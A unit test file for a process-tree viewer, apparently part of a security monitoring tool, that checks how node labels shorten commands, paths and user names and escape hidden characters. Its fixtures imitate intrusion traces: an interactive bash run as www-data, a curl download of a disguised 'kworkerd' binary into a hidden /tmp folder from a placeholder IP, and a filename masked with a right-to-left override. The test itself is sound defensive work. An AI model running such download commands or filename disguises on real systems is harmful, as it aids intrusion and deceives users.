// Node labels: the command, the executable and who ran it when, cut to fit a node, with characters that
// would lie on screen shown as escapes.
import { describe, expect, it } from 'vitest';
import type { ProcessNode } from '../../../src-shared/api/domain.ts';
import { nodeLabel, shortenPath } from './labels.ts';

const node: ProcessNode = {
  key: '23030@1795183385005341400', pid: 23030, startNs: 1_795_183_385_005_341_400, ppid: 23026, parentKey: '23026@1', role: 'focus',
  executable: '/usr/bin/bash', argv0: 'bash', argv: ['-i'], comm: 'bash', user: 'www-data', uid: 33, cwd: '/var/www/html', tty: '', containerId: '',
  exitNs: null, exitCode: null, eventCount: 2, hiddenChildren: 0,
};

describe('process node labels', () => {
  it('say what ran, from where, as whom and when', () => {
    expect(nodeLabel(node).split('\n')).toEqual(['bash -i', '/usr/bin/bash', `www-data · pid 23030 · ${new Date(1_795_183_385_005).toISOString().slice(11, 23)}`]);
  });

  it('cut a long user name so the last line fits', () => {
    const line = nodeLabel({ ...node, user: 'gitlab-runner', pid: 1_234_567 }).split('\n')[2]!;
    expect(line).toHaveLength(36);
    expect(line).toMatch(/^gitlab… · pid 1234567 · \d\d:\d\d:\d\d\.\d{3}$/);
  });

  it('cut long command lines and paths, keeping the start of a command and the end of a path', () => {
    const long = { ...node, argv0: 'curl', argv: ['-so', '/tmp/.x/kworkerd', 'http://203.0.113.45/k'.repeat(4)], executable: '/opt/very/long/install/prefix/of/some/tool/bin/kworkerd' };
    const [command, executable] = nodeLabel(long).split('\n');
    expect(command).toHaveLength(36);
    expect(command).toMatch(/^curl -so \/tmp\/\.x\/kworkerd http.*…$/);
    expect(executable).toMatch(/^….*\/bin\/kworkerd$/);
    expect(shortenPath('/usr/bin/cat', 36)).toBe('/usr/bin/cat');
  });

  it('show a right-to-left override or a newline in a command line as escapes', () => {
    const lying = { ...node, argv0: 'cat', argv: ['invoice\u202Etxt.sh', 'a\nb'] };
    expect(nodeLabel(lying).split('\n')[0]).toBe('cat invoice\\u202etxt.sh a\\nb');
  });
});
